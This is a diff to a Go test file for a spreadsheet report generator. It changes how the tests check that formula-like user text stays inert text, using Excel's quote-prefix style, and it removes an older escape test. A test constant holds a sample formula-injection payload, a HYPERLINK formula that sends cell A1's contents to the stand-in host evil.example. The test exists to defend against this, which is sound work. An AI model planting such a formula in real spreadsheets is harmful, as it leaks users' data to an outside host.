@@ -12,6 +12,7 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/bluelight-wellbeing/toolkit/reports/figure"
+	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
 )
 
 const malicious = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
@@ -103,13 +104,28 @@ func TestWorkbookReadsBack(t *testing.T) {
 	if v := get(t, f, SheetGaps, "M2"); v == "" {
 		t.Error("due date missing")
 	}
-	// Escaping: user text that looks like a formula stays text.
+	// User text that looks like a formula stays text, exactly as typed,
+	// in a cell with Excel's quote prefix (set before the wrap style of
+	// columns C and K, which must keep it).
 	for _, c := range []struct{ sheet, cell, want string }{
-		{SheetGaps, "K58", "'" + malicious}, {SheetGaps, "L58", "'+44 owner"}, {SheetGaps, "C58", "'-starts with minus"},
-		{SheetRisks, "A3", "'@Family liaison officers"},
+		{SheetGaps, "K58", malicious}, {SheetGaps, "L58", "+44 owner"}, {SheetGaps, "C58", "-starts with minus"},
+		{SheetRisks, "A3", "@Family liaison officers"},
 	} {
 		if got := get(t, f, c.sheet, c.cell); got != c.want {
 			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
+		}
+		if !xlsxdoc.HasQuotePrefix(f, c.sheet, c.cell) {
+			t.Errorf("%s!%s has no quote prefix", c.sheet, c.cell)
+		}
+		if id, _ := f.GetCellStyle(c.sheet, c.cell); c.cell[0] == 'C' || c.cell[0] == 'K' {
+			if st, _ := f.GetStyle(id); st.Alignment == nil || !st.Alignment.WrapText {
+				t.Errorf("%s!%s lost its wrap style", c.sheet, c.cell)
+			}
+		}
+	}
+	for _, c := range []struct{ sheet, cell string }{{SheetGaps, "K2"}, {SheetGaps, "A2"}, {SheetSummary, "A1"}} {
+		if xlsxdoc.HasQuotePrefix(f, c.sheet, c.cell) {
+			t.Errorf("%s!%s has a quote prefix it does not need", c.sheet, c.cell)
 		}
 		if formula, _ := f.GetCellFormula(c.sheet, c.cell); formula != "" {
 			t.Errorf("%s!%s became a formula: %q", c.sheet, c.cell, formula)
@@ -195,17 +211,6 @@ func unzip(t *testing.T, b []byte) map[string]string {
 		out[zf.Name] = string(data)
 	}
 	return out
-}
-
-func TestEscape(t *testing.T) {
-	for in, want := range map[string]string{
-		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
-		"plain": "plain", "": "", "a=b": "a=b",
-	} {
-		if got := Escape(in); got != want {
-			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
-		}
-	}
 }
 
 func TestPriority(t *testing.T) {
